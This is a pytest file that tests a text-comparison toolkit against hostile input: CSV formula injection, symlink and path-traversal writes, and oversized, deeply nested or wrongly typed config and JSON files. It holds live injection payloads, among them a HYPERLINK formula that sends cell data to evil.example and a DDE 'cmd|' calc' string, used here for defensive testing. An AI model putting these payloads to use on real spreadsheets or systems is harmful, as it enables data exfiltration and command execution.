"""Hostile input beyond XSS: spreadsheet formulas in CSV cells, writes outside the output folder,
huge, recursive and wrongly typed config, glossary, review and JSON files.

(Plugins that raise at import or call time: tests/test_plugins.py.)
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from toolkit.backends.embedder import FakeEmbedder
from toolkit.backends.fake import FakeGenerator
from toolkit.batch import run_batch
from toolkit.cli import app
from toolkit.core.config import Settings, load_settings
from toolkit.core.errors import ParallaxError
from toolkit.export import export_article
from toolkit.qa.glossary import load_glossary
from toolkit.render.csvcell import FORMULA_STARTS, safe_cell
from toolkit.qa.review import load_review

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "\u00a0@x"]
ARTICLE = """{title}

The minister said on Monday that talks with Baku would continue next week in Vienna ({n}).

Both delegations described the first round as useful, and round {n} is planned for March.
"""


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def _formula_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would run: a formula start (after spaces) that is not a plain number."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    return [c for row in rows for c in row
            if c.lstrip(" \u00a0\u3000")[:1] in FORMULA_STARTS and not _is_number(c)]


def test_safe_cell():
    for f in FORMULAS:
        assert safe_cell(f) == "'" + f
    for fine in ("Baku talks", "", "   ", "'=already quoted", "x=1", 3, -2.5, None):
        assert safe_cell(fine) == fine


def test_formulas_in_titles_names_and_systems_are_neutralized_in_every_csv(tmp_path):
    in_dir, out = tmp_path / "in", tmp_path / "out"
    in_dir.mkdir()
    for i, formula in enumerate(FORMULAS):
        (in_dir / f"a{i}.txt").write_text(ARTICLE.format(title=formula, n=i), encoding="utf-8")
    (in_dir / "=cmd|' calc'!A0.txt").write_text(ARTICLE.format(title="Named like a formula", n=99), encoding="utf-8")
    (in_dir / "-broken.txt").write_bytes(b"")  # errors.csv: a formula-like name and message
    settings = Settings(cache_dir=str(tmp_path / "cache"))
    report = run_batch(in_dir, out, settings, generator=FakeGenerator(), embedder=FakeEmbedder())
    assert report.done == len(FORMULAS) + 1 and report.failed == 1
    rows = list(csv.DictReader(io.StringIO((out / "results.csv").read_text(encoding="utf-8"))))
    titles = [json.loads(p.read_text(encoding="utf-8"))["title"] for p in out.glob("*.json")]
    assert sorted(r["title"] for r in rows) == sorted(safe_cell(t or "") for t in titles)  # kept, quoted
    assert sum(r["title"].startswith("'") for r in rows) >= len(FORMULAS) - 2  # tab and CR titles are trimmed
    assert any(r["path"] == "'=cmd|' calc'!A0.txt" for r in rows)
    assert _formula_cells(out / "results.csv") == []
    assert _formula_cells(out / "errors.csv") == []
    assert all(_is_number(r["uncertainty"]) for r in rows if r["uncertainty"])  # numbers stay numbers

    # systems.csv: the system names come from file names (NAME.SYSTEM.txt)
    versions = tmp_path / "versions"
    versions.mkdir()
    (versions / "b.txt").write_text(ARTICLE.format(title="Border talks", n=1), encoding="utf-8")
    (versions / "b.ref.txt").write_text(ARTICLE.format(title="Border talks", n=1).replace("said", "stated"),
                                        encoding="utf-8")
    (versions / "b.@SUM(A1).txt").write_text(ARTICLE.format(title="Border talks", n=1).replace("Monday", "Friday"),
                                              encoding="utf-8")
    (versions / "b.-1+2.txt").write_text(ARTICLE.format(title="Border talks", n=1).replace("useful", "fine"),
                                          encoding="utf-8")
    report = run_batch(versions, tmp_path / "vout", replace(settings, strategies=("none",)),
                       embedder=FakeEmbedder(), versions=True)
    assert report.failed == 0
    systems = list(csv.DictReader(io.StringIO((tmp_path / "vout" / "systems.csv").read_text(encoding="utf-8"))))
    assert {r["system"] for r in systems} == {"article", "'@SUM(A1)", "'-1+2"}
    assert _formula_cells(tmp_path / "vout" / "systems.csv") == []


# ------------------------------------------------------------------ never outside the output folder
def _snapshot(root: Path, *skip: Path) -> dict[str, bytes]:
    """Every file under ``root`` except inside the ``skip`` folders, by path (symlinks not followed)."""
    files = {}
    for folder, dirs, names in os.walk(root):
        if any(Path(folder) == s or s in Path(folder).parents for s in skip):
            continue
        for name in names:
            p = Path(folder, name)
            files[str(p)] = b"<link>" + os.readlink(p).encode() if p.is_symlink() else p.read_bytes()
    return files


def test_batch_never_writes_outside_the_output_folder(tmp_path):
    in_dir, out, outside = tmp_path / "in", tmp_path / "out", tmp_path / "outside"
    (in_dir / "world").mkdir(parents=True)
    (in_dir / "desk").mkdir()
    outside.mkdir()
    for rel in ("world/a.txt", "desk/b.txt", "c.txt", "e..txt"):
        (in_dir / rel).write_text(ARTICLE.format(title=f"Article {rel}", n=rel), encoding="utf-8")
    (outside / "secret.txt").write_text(ARTICLE.format(title="Outside the input folder", n=0), encoding="utf-8")
    (in_dir / "linked").symlink_to(outside)  # an input folder that leads outside: skipped
    (in_dir / "linked.txt").symlink_to(outside / "secret.txt")
    (outside / "victim.html").write_text("keep me", encoding="utf-8")
    out.mkdir()
    (out / "world").symlink_to(outside)  # reports of world/ would land outside
    (out / "c.txt.html").symlink_to(outside / "victim.html")  # a report that is a symlink out
    (out / "index.html").symlink_to(outside / "victim.html")  # the index too
    (out / "results.csv").symlink_to(outside / "victim.html")
    before = _snapshot(tmp_path, out, tmp_path / "cache")

    report = run_batch(in_dir, out, Settings(cache_dir=str(tmp_path / "cache")), generator=FakeGenerator(),
                       embedder=FakeEmbedder())
    assert _snapshot(tmp_path, out, tmp_path / "cache") == before  # nothing outside changed
    assert (outside / "victim.html").read_text() == "keep me"
    failures = {f.path: f.kind for f in report.failures}
    assert failures == {"world/a.txt": "unsafe-path", "c.txt": "unsafe-path", "linked": "unsafe-path",
                        "linked.txt": "unsafe-path"}, report.failures
    assert (out / "desk" / "b.txt.html").is_file() and (out / "e..txt.json").is_file()
    assert not (out / "index.html").is_symlink() and (out / "index.html").read_text().startswith("<!DOCTYPE")
    assert not (out / "results.csv").is_symlink()
    for bad in ("../x/*.txt", "/etc/*.txt"):
        with pytest.raises(ParallaxError, match="--glob"):
            run_batch(in_dir, out, Settings(cache_dir=str(tmp_path / "cache")), pattern=bad,
                      generator=FakeGenerator(), embedder=FakeEmbedder())


# ------------------------------------------------------------------ huge, recursive, wrong types
def _one_line_error(args: list[str]) -> str:
    r = CliRunner().invoke(app, args)
    assert r.exit_code in (2, 4), (r.exit_code, r.output[-2000:])
    assert "Traceback" not in r.output and r.exception is None or isinstance(r.exception, SystemExit)
    (line,) = r.stderr.splitlines()
    assert line.startswith("parallax: error: ") and len(line) < 400, line
    return line


@pytest.fixture
def article(tmp_path) -> Path:
    path = tmp_path / "article.txt"
    path.write_text(ARTICLE.format(title="Border talks", n=1), encoding="utf-8")
    return path


def _huge(path: Path) -> Path:
    with open(path, "wb") as f:  # sparse: 200 MB on paper
        f.truncate(200 * 2**20)
    return path


DEEP_TOML = "[model]\ngenerator = " + "[" * 5000 + "]" * 5000 + "\n"
DEEP_INLINE = "[model]\ngenerator = " + "{a = " * 300 + "1" + "}" * 300 + "\n"
DEEP_JSON = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize("kind", ["huge", "deep-array", "deep-table", "giant-number", "pipe", "not-utf8"])
def test_config_glossary_and_review_files_that_are_huge_or_recursive_are_one_line_errors(tmp_path, article,
                                                                                          kind):
    bodies = {"deep-array": DEEP_TOML, "deep-table": DEEP_INLINE, "giant-number": "[model]\nthreads = " + "9" * 5000,
              "not-utf8": "[model]\ngenerator = \"\xff\"\n"}
    for option, name in (("--config", "profile.toml"), ("--glossary", "terms.toml"), ("--review", "review.toml")):
        path = tmp_path / f"{kind}-{name}"
        if kind == "huge":
            _huge(path)
        elif kind == "pipe":
            os.mkfifo(path)
        elif kind == "not-utf8":
            path.write_bytes(bodies[kind].encode("latin-1"))
        else:
            path.write_text(bodies[kind], encoding="utf-8")
        line = _one_line_error(["compare", str(article), "--backend", "fake", "--embedder", "fake", option,
                                str(path), "-f", "json", "-q"])
        assert str(path) in line


def test_json_reports_and_choices_that_are_huge_or_recursive_are_one_line_errors(tmp_path):
    report = tmp_path / "report.json"
    for body in (DEEP_JSON, '{"schema": "parallax/1", "n": ' + "9" * 5000 + "}", "[" * 50 + "]" * 50):
        report.write_text(body, encoding="utf-8")
        _one_line_error(["export", str(report)])
    _huge(report)
    assert "limit" in _one_line_error(["export", str(report)])


# wrong types, machine-made: any TOML/JSON value where a setting, term or review entry belongs
SCALARS = st.one_of(st.none(), st.booleans(), st.integers(min_value=-2**70, max_value=2**70),
                    st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=12),
                    st.sampled_from(["", "0", "-1", "yes", "post-edit", "fake", "nan", "1e309", "s1.p1"]))
VALUES = st.recursive(SCALARS, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                       st.dictionaries(st.text(max_size=8), inner, max_size=4)),
                      max_leaves=12)
CONFIG_KEYS = ["model.generator", "model.embedder", "runtime.threads", "runtime.batch_size", "runtime.backend",
               "decoding.temperature", "decoding.top_p", "decoding.max_new_tokens", "summarize.sentences",
               "summarize.method", "retranslate.strategies", "retranslate.alternatives", "retranslate.models",
               "checks.only", "ingest.keep_boilerplate", "model.nope", "nope.nope"]
BOUNDED = settings(max_examples=150, derandomize=True, deadline=None)


def _toml_value(v) -> str:
    """Write ``v`` as a TOML value (None, which TOML lacks, as an empty inline table)."""
    if v is None:
        return "{}"
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v) if -2**63 <= v < 2**63 else json.dumps(str(v))
    if isinstance(v, float):
        return "nan" if math.isnan(v) else ("inf" if v > 0 else "-inf") if math.isinf(v) else repr(v)
    if isinstance(v, str):
        return json.dumps(v)
    if isinstance(v, list):
        return "[" + ", ".join(_toml_value(x) for x in v) + "]"
    return "{" + ", ".join(f"{json.dumps(k)} = {_toml_value(x)}" for k, x in v.items()) + "}"


def _expect_parallax_error_or_success(call) -> None:
    try:
        call()
    except ParallaxError as exc:
        assert "\n" not in str(exc) and len(str(exc)) < 400, str(exc)


@BOUNDED
@given(st.dictionaries(st.sampled_from(CONFIG_KEYS), VALUES, min_size=1, max_size=4))
def test_config_of_wrong_types_is_a_one_line_error(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("cfg") / "profile.toml"
    tables: dict[str, list[str]] = {}
    for dotted, v in values.items():
        table, key = dotted.split(".")
        tables.setdefault(table, []).append(f"{key} = {_toml_value(v)}")
    path.write_text("".join(f"[{t}]\n" + "\n".join(lines) + "\n" for t, lines in tables.items()), encoding="utf-8")
    _expect_parallax_error_or_success(lambda: load_settings(path, env={}))


@BOUNDED
@given(VALUES, VALUES)
def test_glossary_and_review_of_wrong_types_are_one_line_errors(tmp_path_factory, terms, entry):
    folder = tmp_path_factory.mktemp("qa")
    glossary = folder / "terms.toml"
    glossary.write_text(f"terms = {_toml_value(terms)}\nkeep = {_toml_value(entry)}\n", encoding="utf-8")
    _expect_parallax_error_or_success(lambda: load_glossary(glossary))
    review = folder / "review.toml"
    fields = entry if isinstance(entry, dict) else {"paragraph": entry, "kind": "added-number", "text": terms}
    review.write_text(f"reviewed = [{_toml_value(fields)}]\n", encoding="utf-8")
    _expect_parallax_error_or_success(lambda: load_review(review))


@pytest.fixture(scope="module")
def real_report() -> dict:
    from toolkit import compare

    result = compare(ARTICLE.format(title="Border talks", n=1), generator=FakeGenerator(), embedder=FakeEmbedder())
    return json.loads(result.to_json())


def _paths(data, prefix=()):
    yield prefix
    if isinstance(data, dict):
        for k, v in data.items():
            yield from _paths(v, (*prefix, k))
    elif isinstance(data, list):
        for i, v in enumerate(data):
            yield from _paths(v, (*prefix, i))


@BOUNDED
@given(st.data())
def test_reports_and_choices_of_wrong_types_export_or_fail_in_one_line(real_report, data):
    report = json.loads(json.dumps(real_report))
    paths = [p for p in _paths(report) if len(p) <= 5]  # the structure export reads, not deep diff tokens
    for _ in range(data.draw(st.integers(1, 3))):  # replace a few values anywhere in a real report
        path = data.draw(st.sampled_from(paths))
        if not path:
            continue
        node = report
        try:
            for k in path[:-1]:
                node = node[k]
            node[path[-1]] = data.draw(VALUES)
        except (KeyError, IndexError, TypeError):
            continue
    choices = data.draw(st.one_of(st.none(), VALUES, st.fixed_dictionaries(
        {"schema": st.just("parallax-choices/1"), "article": st.one_of(st.just(real_report["metadata"].get(
            "content_sha256")), VALUES), "choices": st.lists(st.fixed_dictionaries(
            {"paragraph": st.one_of(st.sampled_from(["s1.p1", "s1.p2", "s2.p1", "x"]), VALUES),
             "rendering": st.one_of(st.sampled_from(["original", "alternative:0", "alternative:9", "edit"]),
                                    VALUES),
             "text": VALUES}), max_size=3)})))
    fmt = data.draw(st.sampled_from(["txt", "md"]))
    _expect_parallax_error_or_success(lambda: export_article(report, choices, fmt))
